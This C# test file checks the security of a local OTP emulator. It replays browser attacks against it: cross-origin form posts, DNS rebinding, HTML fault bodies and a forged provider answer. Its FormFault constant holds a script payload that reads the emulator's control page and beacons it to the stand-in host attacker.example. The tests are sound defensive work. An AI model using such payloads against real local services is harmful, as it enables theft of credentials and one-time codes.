using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;
using OtpClients.Emulator;

namespace OtpClients.Tests.Emulator;

/// <summary>
/// The emulator left running on a developer's machine, attacked the way a web page in their browser would: a
/// cross-origin form post, DNS rebinding, a fault body that would run as a page, a provider answer that would talk a
/// wrong code into "verified". Each request below is the attacker's, byte for byte.
/// </summary>
public sealed class EmulatorSecurityTests
{
    private const string IsraeliPhone = "+972501234567";

    private OtpEmulator emulator = null!;
    private HttpClient http = null!;

    [OneTimeSetUp]
    public async Task StartAsync()
    {
        var options = new OtpEmulatorOptions();
        options.AllowedHosts.Add("otp-emulator.test");
        emulator = await OtpEmulator.StartAsync(options);
        http = new HttpClient { BaseAddress = emulator.BaseAddress };
    }

    [OneTimeTearDown]
    public async Task StopAsync()
    {
        http.Dispose();
        await emulator.DisposeAsync();
    }

    [SetUp]
    public void Reset() => emulator.Reset();

    private string Origin => emulator.BaseAddress.GetLeftPart(UriPartial.Authority);

    private static HttpRequestMessage Request(HttpMethod method, string path, string? body = null, string? contentType = null, params (string Name, string Value)[] headers)
    {
        var request = new HttpRequestMessage(method, path);
        if (body is not null)
        {
            request.Content = new StringContent(body, Encoding.UTF8);
            request.Content.Headers.ContentType = contentType is null ? null : MediaTypeHeaderValue.Parse(contentType);
        }

        foreach (var (name, value) in headers)
        {
            request.Headers.TryAddWithoutValidation(name, value);
        }

        return request;
    }

    // What <form method=post enctype=text/plain action=http://127.0.0.1:5087/_emulator/faults> on attacker.example
    // sends: a "JSON" body built from one field name, a simple content type, the page's origin.
    private const string FormFault = "{\"provider\":\"99digital\",\"status\":200,\"body\":\"<script>fetch('/_emulator').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/',t))</script>\",\"contentType\":\"text/html\",\"count\":null,\"x\":\"=\"}";

    [Test]
    public async Task PostFaults_CrossOriginTextPlainFormPost_IsRefusedAndAddsNoFault()
    {
        using var response = await http.SendAsync(Request(HttpMethod.Post, "_emulator/faults", FormFault, "text/plain",
            ("Origin", "https://attacker.example"), ("Sec-Fetch-Site", "cross-site"), ("Sec-Fetch-Mode", "navigate")));

        Assert.Multiple(() =>
        {
            Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.Forbidden));
            Assert.That(emulator.Faults.Pending, Is.Empty);
        });
    }

    [TestCase("text/plain")]
    [TestCase("application/x-www-form-urlencoded")]
    [TestCase("multipart/form-data; boundary=x")]
    [TestCase(null)]
    public async Task PostFaults_SimpleContentTypeWithoutOrigin_IsRefusedWith415(string? contentType)
    {
        // A browser that sent no Origin (or a proxy that stripped it) still cannot send JSON from a form.
        using var response = await http.SendAsync(Request(HttpMethod.Post, "_emulator/faults", FormFault, contentType));
        var body = await response.Content.ReadAsStringAsync();

        Assert.Multiple(() =>
        {
            Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.UnsupportedMediaType));
            Assert.That(body, Does.Contain("application/json"));
            Assert.That(emulator.Faults.Pending, Is.Empty);
        });
    }

    [TestCase("Origin", "https://attacker.example")]
    [TestCase("Origin", "null")]
    [TestCase("Origin", "http://localhost:1")]
    [TestCase("Sec-Fetch-Site", "cross-site")]
    [TestCase("Sec-Fetch-Site", "same-site")]
    public async Task ControlWrites_FromAnotherOrigin_AreRefusedEvenAsJson(string header, string value)
    {
        using var post = await http.SendAsync(Request(HttpMethod.Post, "_emulator/faults", "{\"provider\":\"AMM\",\"status\":503}", "application/json", (header, value)));
        emulator.Outbox.Clear();
        await SendThroughSdkAsync();
        using var clear = await http.SendAsync(Request(HttpMethod.Delete, "_emulator/messages", null, null, (header, value)));

        Assert.Multiple(() =>
        {
            Assert.That(post.StatusCode, Is.EqualTo(HttpStatusCode.Forbidden));
            Assert.That(emulator.Faults.Pending, Is.Empty);
            Assert.That(clear.StatusCode, Is.EqualTo(HttpStatusCode.Forbidden));
            Assert.That(emulator.Outbox.Messages, Has.Count.EqualTo(1), "the outbox was not cleared");
        });
    }

    [Test]
    public async Task ControlWrites_FromTheInboxItself_StillWork()
    {
        using var post = await http.SendAsync(Request(HttpMethod.Post, "_emulator/faults", "{\"provider\":\"AMM\",\"status\":503}", "application/json; charset=utf-8",
            ("Origin", Origin), ("Sec-Fetch-Site", "same-origin")));
        using var clear = await http.SendAsync(Request(HttpMethod.Delete, "_emulator/faults?provider=AMM", null, null, ("Origin", Origin), ("Sec-Fetch-Site", "same-origin")));
        using var plainDelete = await http.DeleteAsync("_emulator/messages");

        Assert.Multiple(() =>
        {
            Assert.That(post.StatusCode, Is.EqualTo(HttpStatusCode.NoContent));
            Assert.That(clear.StatusCode, Is.EqualTo(HttpStatusCode.NoContent));
            Assert.That(plainDelete.StatusCode, Is.EqualTo(HttpStatusCode.NoContent), "a DELETE without a body needs no content type");
            Assert.That(emulator.Faults.Pending, Is.Empty);
        });
    }

    [Test]
    public async Task Delete_WithATextPlainBody_IsRefused()
    {
        using var response = await http.SendAsync(Request(HttpMethod.Delete, "_emulator/faults", "x", "text/plain"));
        Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.UnsupportedMediaType));
    }

    [TestCase("_emulator")]
    [TestCase("_emulator/messages")]
    [TestCase("_emulator/faults")]
    [TestCase("")]
    public async Task Get_WithARebindingHost_IsRefusedAndShowsNothing(string path)
    {
        await SendThroughSdkAsync();
        var code = emulator.Outbox.Messages.Single().Code;

        // DNS rebinding: attacker.example now resolves to 127.0.0.1, so the browser connects here with the attacker's name.
        using var request = Request(HttpMethod.Get, path);
        request.Headers.Host = $"attacker.example:{emulator.BaseAddress.Port}";
        using var response = await http.SendAsync(request);
        var body = await response.Content.ReadAsStringAsync();

        Assert.Multiple(() =>
        {
            Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest));
            Assert.That(body, Does.Not.Contain(code).And.Not.Contain(emulator.Credentials.AmmAuthSecret));
        });
    }

    [Test]
    public async Task ProviderCall_WithARebindingHost_SendsNothing()
    {
        using var request = Request(HttpMethod.Post, "sms/verifySMS", $"apiKey={emulator.Credentials.NinetyNineDigitalApiKey}&from=Evil&to=0501234567", "application/x-www-form-urlencoded");
        request.Headers.Host = "attacker.example";
        using var response = await http.SendAsync(request);

        Assert.Multiple(() =>
        {
            Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest));
            Assert.That(emulator.Outbox.Messages, Is.Empty);
        });
    }

    [TestCase("localhost")]
    [TestCase("127.0.0.1")]
    [TestCase("otp-emulator.test")]
    public async Task Get_WithAnAllowedHost_IsServed(string host)
    {
        using var request = Request(HttpMethod.Get, "_emulator/messages");
        request.Headers.Host = $"{host}:{emulator.BaseAddress.Port}";
        using var response = await http.SendAsync(request);
        Assert.Multiple(() =>
        {
            Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.OK));
            Assert.That(emulator.AllowedHosts, Does.Contain("localhost").And.Contain("127.0.0.1").And.Contain("[::1]").And.Contain("otp-emulator.test"));
        });
    }

    [Test]
    public async Task ProviderCall_FromAPageOfAnotherOrigin_IsRefusedAndSendsNothing()
    {
        // A multipart form post is a simple request: any page could make the emulator "send" codes or burn them.
        using var form = new MultipartFormDataContent { { new StringContent(emulator.Credentials.NinetyNineDigitalApiKey), "apiKey" }, { new StringContent("Evil"), "from" }, { new StringContent("0501234567"), "to" } };
        using var request = new HttpRequestMessage(HttpMethod.Post, "sms/verifySMS") { Content = form };
        request.Headers.Add("Origin", "https://attacker.example");
        request.Headers.Add("Sec-Fetch-Site", "cross-site");
        using var response = await http.SendAsync(request);

        Assert.Multiple(() =>
        {
            Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.Forbidden));
            Assert.That(emulator.Outbox.Messages, Is.Empty);
        });
    }

    [TestCase("text/html")]
    [TestCase("text/html; charset=utf-8")]
    [TestCase("image/svg+xml")]
    [TestCase("application/json")]
    public async Task FaultBody_ServedOnAProviderPath_IsSandboxedDataNeverAPage(string contentType)
    {
        emulator.Faults.Add(new OtpEmulatorFault
        {
            Provider = "99digital",
            StatusCode = 200,
            Body = "<html><script>fetch('/_emulator/messages')</script></html>",
            ContentType = contentType,
        });

        using var response = await http.PostAsync("sms/verifySMS", new StringContent("x"));

        Assert.Multiple(() =>
        {
            Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.OK), "the fault still applies");
            Assert.That(response.Headers.GetValues("Content-Security-Policy").Single(), Does.StartWith("sandbox"));
            Assert.That(response.Headers.GetValues("X-Content-Type-Options").Single(), Is.EqualTo("nosniff"));
            Assert.That(response.Headers.GetValues("Cross-Origin-Resource-Policy").Single(), Is.EqualTo("same-origin"));
        });
    }

    [TestCase("_emulator")]
    [TestCase("_emulator/messages")]
    [TestCase("_emulator/faults")]
    [TestCase("api/authentications")]
    public async Task ControlAndProviderAnswers_CarryTheStrictHeaders(string path)
    {
        using var response = await http.GetAsync(path);
        Assert.Multiple(() =>
        {
            Assert.That(response.Headers.GetValues("Content-Security-Policy").Single(), Does.Contain("default-src 'none'").And.StartWith("sandbox"));
            Assert.That(response.Headers.GetValues("X-Content-Type-Options").Single(), Is.EqualTo("nosniff"));
        });
    }

    [Test]
    public async Task Credentials_AskedByAPageOfAnotherSite_AreMasked()
    {
        using var crossSite = await http.SendAsync(Request(HttpMethod.Get, "_emulator", null, null, ("Sec-Fetch-Site", "cross-site"), ("Sec-Fetch-Mode", "no-cors")));
        var masked = await crossSite.Content.ReadFromJsonAsync<JsonObject>();
        using var sameOrigin = await http.SendAsync(Request(HttpMethod.Get, "_emulator", null, null, ("Sec-Fetch-Site", "same-origin")));
        var shown = await sameOrigin.Content.ReadFromJsonAsync<JsonObject>();
        var tool = await http.GetFromJsonAsync<JsonObject>("_emulator");
        var c = emulator.Credentials;

        Assert.Multiple(() =>
        {
            Assert.That(masked!.ToJsonString(), Does.Not.Contain(c.AmmAuthSecret).And.Not.Contain(c.AmmAuthKey).And.Not.Contain(c.Ip1ApiKey).And.Not.Contain(c.NinetyNineDigitalApiKey));
            Assert.That((bool)masked["masked"]!, Is.True);
            Assert.That((string)shown!["amm"]!["authSecret"]!, Is.EqualTo(c.AmmAuthSecret), "the inbox page, same origin");
            Assert.That((string)tool!["amm"]!["authSecret"]!, Is.EqualTo(c.AmmAuthSecret), "a tool outside the browser (the console sample)");
            Assert.That((string)tool["ninetyNineDigital"]!["apiKey"]!, Is.EqualTo(c.NinetyNineDigitalApiKey));
        });
    }

    [Test]
    public async Task NinetyNineDigitalCheck_FaultAnsweringStatus1WithoutPhone_DoesNotVerifyAWrongCode()
    {
        await using var services = new ServiceCollection()
            .AddOtpClient(otp => otp.UseNinetyNineDigital(emulator.ConfigureNinetyNineDigital)).Services
            .BuildServiceProvider();
        var client = services.GetRequiredService<IOtpClient>();
        var sent = await client.SendAsync(new OtpSendRequest(IsraeliPhone));
        var code = emulator.Outbox.LastCodeFor(IsraeliPhone)!;
        var wrong = code == "000000" ? "111111" : "000000";

        // The review's attack: any page (before this fix) could post this fault, and a wrong code then verified.
        emulator.Faults.Add(new OtpEmulatorFault { Provider = "99digital", StatusCode = 200, Body = "{\"status\":1}" });
        var result = await client.VerifyAsync(new OtpVerifyRequest(sent.Challenge!, wrong));

        Assert.Multiple(() =>
        {
            Assert.That(result.IsVerified, Is.False);
            Assert.That(result.Status, Is.EqualTo(OtpVerificationStatus.Failed));
            Assert.That(result.Error!.Code, Is.EqualTo(OtpErrorCode.UnexpectedResponse));
        });
    }

    [TestCase("http://0.0.0.0:5087", "0.0.0.0")]
    [TestCase("http://[::1]:0", "[::1]")]
    [TestCase("http://*:80", "*")]
    [TestCase("https://dev.example.test:8443/", "dev.example.test")]
    [TestCase("http://localhost", "localhost")]
    public void HostOf_KestrelUrl_IsItsHostWithoutPort(string url, string host) =>
        Assert.That(RequestGate.HostOf(url), Is.EqualTo(host));

    private async Task SendThroughSdkAsync()
    {
        await using var services = new ServiceCollection()
            .AddOtpClient(otp => otp.UseAmm(emulator.ConfigureAmm)).Services
            .BuildServiceProvider();
        var sent = await services.GetRequiredService<IOtpClient>().SendAsync(new OtpSendRequest("+393481234567"));
        Assert.That(sent.IsSuccess, Is.True, sent.ToString());
    }
}
